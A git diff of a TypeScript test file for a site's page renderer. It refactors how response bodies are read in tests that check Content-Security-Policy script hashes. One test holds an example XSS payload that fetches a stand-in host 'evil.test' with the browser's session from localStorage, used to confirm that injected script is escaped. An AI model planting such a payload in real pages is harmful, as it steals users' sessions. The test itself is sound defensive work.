@@ -5,6 +5,7 @@ import { beforeAll, expect, it } from 'vitest';
 import type { Api } from '#contract/core/client.ts';
 import type { Lang } from '#contract/core/errors.ts';
 import type { PublicSettings } from '#contract/site/endpoints.ts';
+import type { Body } from '../platform/http/compression.ts';
 import type { PagesBuild } from './build.ts';
 import { scriptHashes } from './policy.ts';
 import { renderPage } from './render.ts';
@@ -135,7 +136,9 @@ const inlineScripts = (html: string): string[] =>
     ([, code = '']) => code,
   );
 
-const htmlOf = async (given?: Parameters<typeof list>[0]) => (await list(given)).body.plain.toString();
+const textOf = async (body: Body) => (await body.as('plain')).toString();
+
+const htmlOf = async (given?: Parameters<typeof list>[0]) => textOf((await list(given)).body);
 
 it('renders a page the second time like the first, in both languages', async () => {
   for (const lang of ['en', 'hi'] as const) {
@@ -175,7 +178,7 @@ it('preloads the first pictures in the head', async () => {
 
 it('lists every script of the page in its CSP', async () => {
   const { headers, body } = await list();
-  const html = body.plain.toString();
+  const html = await textOf(body);
   const hashes = scriptHashes(inlineScripts(html));
   // The head script, and those of React Router: scroll, context, modules, data, and the end of the data.
   expect(hashes).toHaveLength(6);
@@ -209,7 +212,7 @@ it('sends the page of a shared report with no-store', async () => {
 it('a script that reaches the page through a text is plain text, and has no hash in the CSP', async () => {
   const stolen = 'fetch("//evil.test/"+localStorage.session)';
   const { headers, body } = await article(`<p>Words</p><script>${stolen}</script>`);
-  const html = body.plain.toString();
+  const html = await textOf(body);
   expect(html).toContain(`&lt;script>${stolen}`);
   expect(html).not.toContain(`<script>${stolen}`);
   const [hash = ''] = scriptHashes([stolen]);
